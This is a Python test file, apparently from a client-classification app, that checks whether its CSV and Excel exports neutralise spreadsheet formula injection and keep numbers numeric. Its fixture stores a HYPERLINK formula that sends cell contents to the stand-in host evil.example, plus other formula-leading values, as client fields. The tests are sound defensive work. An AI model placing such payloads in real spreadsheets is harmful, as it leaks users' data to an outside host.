"""Exports of the classified book: no cell a spreadsheet would evaluate, numbers stay numbers."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from kam.domain.client import Client
from kam.domain.period import parse_period
from kam.services.book import Book, BookError
from kam.services.class_history import set_override
from kam.services.classify import ClassifyRequest, classify_book
from kam.services.exports import CLASS_EXPORT_COLUMNS, class_rows, export_classes
from kam.store import records
from kam.store.database import transaction
from tests.books import add_sales_rows, make_book

NOW = datetime(2024, 5, 1, 12, 0)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def book(tmp_path: Path, database_url: str) -> Iterator[Book]:
    opened = make_book(tmp_path / "book", database_url, user="ann")
    with transaction(opened.database) as session:
        records.upsert(
            session,
            [
                Client("H", "@Holding", owner="+ann"),
                Client("E", EVIL, parent_key="H", owner="bob"),
                Client("M", "-cmd", owner="\tcarl"),
            ],
            NOW,
        )
    day_2023, day_2024 = date(2023, 5, 1), date(2024, 2, 1)
    add_sales_rows(
        opened,
        [
            {"client_id": "E", "date": day_2023, "amount": 90_000},
            {"client_id": "M", "date": day_2023, "amount": 10_000},
            {"client_id": "E", "date": day_2024, "amount": 5_000},
            {"client_id": "M", "date": day_2024, "amount": 90_000},
        ],
    )
    classify_book(opened, ClassifyRequest(period=parse_period("2023")), NOW)
    set_override(opened, "M", "A", "=1+1 strategic", None, NOW)
    classify_book(opened, ClassifyRequest(period=parse_period("2024")), NOW)
    yield opened
    opened.close()


def test_the_rows_carry_name_group_owner_and_the_change_since_the_previous_run(
    book: Book,
) -> None:
    export = class_rows(book)
    assert export.run.period == "2024"
    assert export.previous is not None and export.previous.period == "2023"
    rows = {r["client_id"]: r for r in export.rows}
    assert rows["E"]["name"] == EVIL
    assert rows["E"]["group"] == "H"
    assert rows["E"]["owner"] == "bob"
    assert rows["E"]["value_change"] == -850.0
    assert (rows["E"]["previous_class"], rows["E"]["class"]) == ("A", "B")
    assert (rows["M"]["class"], rows["M"]["computed_class"], rows["M"]["override"]) == (
        "A",
        "A",
        True,
    )
    first = class_rows(book, export.previous.id)
    assert first.previous is None
    assert {r["value_change"] for r in first.rows} == {None}


def test_the_csv_neutralises_formula_text_and_keeps_negative_numbers(
    book: Book, tmp_path: Path
) -> None:
    target = tmp_path / "classes.csv"
    export_classes(book, "csv", target)
    with target.open(encoding="utf-8", newline="") as handle:
        rows = {r["client_id"]: r for r in csv.DictReader(handle)}
    # the columns of amounts are headed with the book's currency (EUR unless set)
    assert list(next(iter(rows.values()))) == [
        f"{c} (EUR)" if c in ("value", "value_change") else c for c in CLASS_EXPORT_COLUMNS
    ]
    assert rows["E"]["name"] == "'" + EVIL
    assert rows["M"]["name"] == "'-cmd"
    assert rows["M"]["owner"] == "'\tcarl"
    assert rows["M"]["reason"].startswith("A: override by ann (=1+1 strategic)")
    assert rows["E"]["value_change (EUR)"] == "-850.0"
    assert float(rows["E"]["value_change (EUR)"]) == -850.0
    assert rows["E"]["value (EUR)"] == "50.0"
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                float(cell)  # only real numbers may begin with a minus


def test_the_excel_file_has_text_as_strings_and_numbers_as_numbers(
    book: Book, tmp_path: Path
) -> None:
    target = tmp_path / "classes.xlsx"
    export_classes(book, "xlsx", target)
    workbook = openpyxl.load_workbook(target)
    sheet = workbook["classes"]
    header = [c.value for c in sheet[1]]
    assert header == list(CLASS_EXPORT_COLUMNS)
    cells: dict[str, dict[str, Any]] = {}
    for row in sheet.iter_rows(min_row=2):
        by_name = dict(zip(header, row, strict=True))
        cells[by_name["client_id"].value] = by_name
    name = cells["E"]["name"]
    assert (name.value, name.data_type, name.quotePrefix) == (EVIL, "s", True)
    assert (cells["M"]["name"].value, cells["M"]["name"].data_type) == ("-cmd", "s")
    assert cells["M"]["owner"].data_type == "s"
    change = cells["E"]["value_change"]
    assert (change.value, change.data_type) == (-850, "n")
    assert cells["E"]["value"].data_type == "n"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    about = dict(workbook["about"].iter_rows(values_only=True))
    assert about["period"] == "2024"


def test_an_unknown_run_is_a_clear_error(book: Book, tmp_path: Path) -> None:
    with pytest.raises(BookError, match="no classification run 999"):
        export_classes(book, "csv", tmp_path / "x.csv", 999)
    with pytest.raises(BookError, match="expected a run id or 'latest'"):
        export_classes(book, "csv", tmp_path / "x.csv", "first")
    assert not (tmp_path / "x.csv").exists()


def test_a_book_never_classified_has_nothing_to_export(tmp_path: Path) -> None:
    empty = make_book(tmp_path / "empty")
    try:
        with pytest.raises(BookError, match="not been classified"):
            export_classes(empty, "csv", tmp_path / "x.csv")
    finally:
        empty.close()
